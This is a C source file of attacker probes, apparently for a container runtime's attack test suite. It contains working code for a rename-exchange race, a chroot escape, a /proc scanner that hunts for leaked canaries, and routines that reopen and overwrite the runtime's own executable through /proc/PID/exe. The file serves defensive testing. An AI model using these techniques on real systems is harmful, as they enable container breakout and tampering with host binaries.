/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker's tools, for the suites attacks_*.bats. They run on the host as a process that shares a volume, or in the
 * container, until they are killed.
 */
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* What two names stand for changes as fast as can be. */
static int exchange(const char *a, const char *b)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 &&
		    errno != ENOENT)
			return 1;
}

/* The classic way out of a chroot(2): 0 if `path` of the host can be opened. */
static int leave_root(const char *path)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	mkdir("/tmp/way-out", 0700);
	if (chroot("/tmp/way-out") < 0) {
		puts("no-chroot");
		return 0;
	}
	if (fchdir(fd) < 0)
		return 1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 1;
	if (chroot(".") < 0)
		return 1;
	puts(access(path, F_OK) == 0 ? "OUTSIDE" : "inside");
	return 0;
}

/* ---- a watcher that looks for what a joining process brings along --------------------------------------------------- */

static int found;

static void report(const char *what, const char *path)
{
	if (found++ < 20) {
		printf("FOUND %s %s\n", what, path);
		fflush(stdout);
	}
}

static void look_into_file(const char *path, const char *canary)
{
	char buf[65536];
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	if (n > 0 && memmem(buf, (size_t)n, canary, strlen(canary)))
		report("text", path);
	if (fd >= 0)
		close(fd);
}

/* A directory of the host behind a link of /proc: the canary is a file in it. */
static void look_through_link(const char *link, const char *canary)
{
	char path[4096];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", link, canary);
	if (stat(path, &st) == 0)
		report("directory", link);
}

static void look_at(const char *pid, const char *canary)
{
	char path[300];
	DIR *dir;

	for (unsigned i = 0; i < 2; i++) {
		static const char *const links[] = { "cwd", "root" };

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		look_through_link(path, canary);
	}
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	look_into_file(path, canary);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	for (struct dirent *e; dir && (e = readdir(dir));) {
		char link[600];

		if (e->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "%s/%s", path, e->d_name);
		look_through_link(link, canary);
	}
	if (dir)
		closedir(dir);
}

/* Looks at every process but itself until it is killed. */
static void __attribute__((noreturn)) watch(const char *canary)
{
	printf("watching\n");
	fflush(stdout);
	for (;;) {
		DIR *dir = opendir("/proc");

		for (struct dirent *e; dir && (e = readdir(dir));) {
			int pid = atoi(e->d_name);

			if (pid > 1 && pid != getpid())
				look_at(e->d_name, canary);
		}
		if (dir)
			closedir(dir);
	}
}

/* ---- the runtime's own file ------------------------------------------------------------------------------------------ */

struct attributes {
	uint64_t set, clear, propagation, userns;
};

/* All ways from a handle of a program's file to a writable descriptor. */
static int make_writable(int handle)
{
	struct attributes writable = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
	char path[32];
	int fd, tree;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0)
		return fd;
	syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0)
		return fd;
	tree = (int)syscall(SYS_open_tree, handle, "", AT_EMPTY_PATH | 1 /* CLONE */);
	if (tree < 0)
		return -1;
	syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", tree);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	close(tree);
	return fd;
}

/* Tries to write to the file of a handle until it is no longer in use, or the time is over. */
static int overwrite(int handle, time_t end)
{
	int fd;

	do {
		fd = make_writable(handle);
		usleep(1000);
	} while (fd < 0 && errno == ETXTBSY && time(NULL) < end);
	if (fd < 0) {
		printf("not writable: %s\n", strerrorname_np(errno));
		return 0;
	}
	if (write(fd, "OVERWRITTEN", 11) == 11)
		puts("OVERWRITTEN");
	return 0;
}

/* overwrite-exe PID SECONDS: of the file that a process runs. */
static int overwrite_exe(const char *pid, const char *seconds)
{
	time_t end = time(NULL) + atoi(seconds);
	char path[64];
	int handle;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	do {
		handle = open(path, O_PATH | O_CLOEXEC);
	} while (handle < 0 && time(NULL) < end);
	return handle < 0 ? 1 : overwrite(handle, end);
}

/* overwrite-any SECONDS SIZE: of every program of that size that another process runs. */
static int overwrite_any(const char *seconds, long long size)
{
	time_t end = time(NULL) + atoi(seconds);
	struct stat st;
	int tried = 0;

	puts("watching");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *dir = opendir("/proc");

		for (struct dirent *e; dir && (e = readdir(dir));) {
			char path[300];
			int handle;

			if (atoi(e->d_name) <= 1 || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			handle = open(path, O_PATH | O_CLOEXEC);
			if (handle < 0)
				continue;
			if (fstat(handle, &st) == 0 && st.st_size == size && tried++ < 8)
				overwrite(handle, time(NULL) + 2);
			close(handle);
		}
		if (dir)
			closedir(dir);
	}
	printf("tried %d\n", tried);
	return 0;
}

int probe_attack(int argc, char **argv)
{
	if (strcmp(argv[0], "exchange") == 0 && argc == 3)
		return exchange(argv[1], argv[2]);
	if (strcmp(argv[0], "leave-root") == 0 && argc == 2)
		return leave_root(argv[1]);
	if (strcmp(argv[0], "watch") == 0 && argc == 2)
		watch(argv[1]);
	if (strcmp(argv[0], "trace") == 0 && argc == 3)
		return probe_trace(argv[1], argv[2]);
	if (strcmp(argv[0], "overwrite-exe") == 0 && argc == 3)
		return overwrite_exe(argv[1], argv[2]);
	if (strcmp(argv[0], "overwrite-handle") == 0 && argc == 3)
		return overwrite(atoi(argv[1]), time(NULL) + atoi(argv[2]));
	if (strcmp(argv[0], "overwrite-any") == 0 && argc == 3)
		return overwrite_any(argv[1], atoll(argv[2]));
	fprintf(stderr, "probe: no such attack\n");
	return 2;
}
